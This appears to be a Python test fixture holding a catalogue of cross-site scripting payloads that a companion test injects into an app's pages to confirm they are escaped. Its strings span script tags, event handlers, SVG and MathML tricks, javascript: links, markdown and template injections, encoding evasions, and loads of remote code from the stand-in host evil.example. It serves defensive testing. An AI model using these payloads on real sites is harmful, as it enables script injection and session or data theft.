"""Texts that would run as a script, fetch something or break out of their place if a page took them for markup.

Each says so by setting `window.__xss`, opening a dialog, or asking evil.example for something.
"""

from __future__ import annotations

RUN = "window.__xss=1"

PLACES = (
    "questions",
    "answers",
    "sources",
    "the article's dialog",
    "the list of documents",
    "what became of a file",
    "what a search sees",
    "the list of conversations",
    "restored conversations",
    "exports",
    "the comparison",
    "the page of a changed fact",
)
"""Where test_xss.py puts them."""

PAYLOADS: tuple[str, ...] = (
    # Script elements, whole, broken and nested.
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    f"<script>{RUN}",
    f"</script><script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script>{RUN}//\u2028</script>",
    f"<\x00script>{RUN}</script>",
    # Handlers.
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=`x`onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<a id=x tabindex=1 onfocus={RUN}>x</a>",
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">x</b>',
    # SVG and MathML.
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    # Addresses.
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="java\tscript:{RUN}">click</a>',
    f'<a href="&#106;avascript:{RUN}">click</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    # Markdown.
    "![pic](https://evil.example/x.png)",
    f"[link](javascript:{RUN})",
    f"[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==) {RUN}",
    f'![x](x"onerror="{RUN})',
    "[x]: https://evil.example/x 'x'\n\n![x][x]",
    f"<javascript:{RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f'[1]" onmouseover="{RUN}" x="',
    f"| a |\n| --- |\n| <img src=x onerror={RUN}> |",
    # Templates, of Gradio's HTML component and others.
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{#each this}}{{@root}}{{/each}}",
    f"{{%raw%}}<%= {RUN} %>#{{{RUN}}}",
    # Out of attributes and elements.
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title></style></noscript><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    # Mutation.
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<table><td><form><table><form><img src=x onerror={RUN}>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    # Encodings, and characters that turn the text around.
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"＜img src=x onerror={RUN}＞",
    f"\ufffd\ufeff<img src=x\u00a0onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    # Styles.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url('https://evil.example/x.png')\">x</p>",
    f"<div style='width:expression({RUN})'>x</div>",
    # A great deal of it.
    "<b>" * 2000 + f"<img src=x onerror={RUN}>",
    "> " * 500 + f"<img src=x onerror={RUN}>",
)
